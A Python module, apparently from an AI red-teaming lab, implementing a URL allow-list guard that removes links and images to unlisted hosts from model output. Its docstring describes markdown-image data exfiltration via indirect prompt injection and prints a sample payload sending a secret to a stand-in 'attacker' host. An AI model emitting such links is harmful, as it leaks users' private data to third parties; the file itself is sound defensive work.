"""Output URL allow-list: links and images to hosts not allowed are removed.

Data exfiltration through rendered markdown (Greshake et al. 2023, "Not what you've signed
up for: Compromising Real-World LLM-Integrated Applications with Indirect Prompt
Injection", arXiv:2302.12173; Rehberger's "markdown image" exfiltration): an answer with
``![x](https://attacker/?q=<secret>)`` makes the user's client fetch the URL. Defences in
deployed chat clients allow images only from listed hosts; this guard does the same on the
answer text:

* markdown images ``![alt](url)`` to other hosts become ``[image removed]``;
* markdown links ``[text](url)`` keep their text, lose the URL;
* reference definitions ``[id]: url``, HTML ``<img src>`` / ``<a href>`` and (with
  ``strip_bare``) bare URLs to other hosts are removed.

A host is allowed when it equals an entry of ``allowed_hosts`` or is a subdomain of one.
URLs are parsed with :func:`urllib.parse.urlsplit`, so ``https://ok.example@evil.example``
counts as ``evil.example``; ``data:``, ``javascript:`` and protocol-relative URLs count as
not allowed; relative links (no scheme, no host) are kept.
"""

from __future__ import annotations

import re
from typing import ClassVar
from urllib.parse import urlsplit

from advlab.errors import ConfigError
from advlab.llm.guards.base import Guard, GuardContext, Stage, Verdict
from advlab.registry import register_defense

_URL = r"[^\s)<>\"']+"
MD_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?(" + _URL + r")>?(?:\s+\"[^\"]*\")?\s*\)")
MD_LINK = re.compile(r"(?<!!)\[([^\]]*)\]\(\s*<?(" + _URL + r")>?(?:\s+\"[^\"]*\")?\s*\)")
REF_DEF = re.compile(r"^[ \t]*\[[^\]]+\]:[ \t]*<?(\S+?)>?(?:[ \t]+\"[^\"]*\")?[ \t]*$", re.M)
HTML = re.compile(
    r"<(img|a|iframe|script|link)\b[^>]*?\b(src|href)\s*=\s*[\"']?([^\"'\s>]+)[^>]*>", re.I
)
BARE = re.compile(r"(?:\b(?:https?|ftp|wss?):|(?<![\w:/]))//[^\s)<>\"'\]]+", re.I)


def host_allowed(url: str, allowed: tuple[str, ...]) -> bool:
    """Whether ``url`` is relative or points at an allowed host (or a subdomain of one)."""
    url = url.strip()
    if not url or url.startswith("#"):
        return True
    try:
        parts = urlsplit(url)
        host = (parts.hostname or "").lower().rstrip(".")
    except ValueError:
        return False
    if not parts.scheme and not parts.netloc:
        return not url.lower().startswith(("javascript:", "data:", "vbscript:"))
    if parts.scheme.lower() not in ("http", "https", ""):
        return False
    return any(host == h or host.endswith("." + h) for h in (a.lower().strip(".") for a in allowed))


@register_defense
class UrlAllowList(Guard):
    """Strip links and images to hosts not in ``allowed_hosts`` (see the module docstring).

    Args:
        allowed_hosts: hosts whose URLs (and subdomains') are kept.
        strip_bare: also remove bare URLs to other hosts (not only markdown and HTML).
    """

    name: ClassVar[str] = "url_allowlist"
    role: ClassVar[str] = "postprocess"
    stage: ClassVar[Stage] = "output"
    paper: ClassVar[str] = (
        "Greshake et al. 2023, Not what you've signed up for: Compromising Real-World "
        "LLM-Integrated Applications with Indirect Prompt Injection, arXiv:2302.12173"
    )
    summary: ClassVar[str] = "removes markdown and HTML links and images to hosts not allowed"

    def __init__(self, *, allowed_hosts: tuple[str, ...] = (), strip_bare: bool = True) -> None:
        self.allowed_hosts = allowed_hosts
        self.strip_bare = strip_bare

    def _validate(self) -> None:
        if isinstance(self.allowed_hosts, str) or not all(
            isinstance(h, str) and h.strip(".") and "/" not in h for h in self.allowed_hosts
        ):
            raise ConfigError(f"{self.name}: allowed_hosts must be host names (no scheme, no path)")

    def check_output(self, text: str, context: GuardContext) -> Verdict:
        self._validate()
        allowed = tuple(self.allowed_hosts)
        removed = 0

        def keep(url: str) -> bool:
            nonlocal removed
            ok = host_allowed(url, allowed)
            removed += not ok
            return ok

        out = MD_IMAGE.sub(lambda m: m.group(0) if keep(m.group(2)) else "[image removed]", text)
        out = MD_LINK.sub(lambda m: m.group(0) if keep(m.group(2)) else m.group(1), out)
        out = REF_DEF.sub(lambda m: m.group(0) if keep(m.group(1)) else "", out)
        out = HTML.sub(lambda m: m.group(0) if keep(m.group(3)) else "[removed]", out)
        if self.strip_bare:
            out = BARE.sub(lambda m: m.group(0) if keep(m.group(0)) else "[link removed]", out)
        if not removed:
            return Verdict(text=text)
        return Verdict(
            action="rewrite", text=out, reason=f"{removed} URL(s) to hosts not allowed removed"
        )
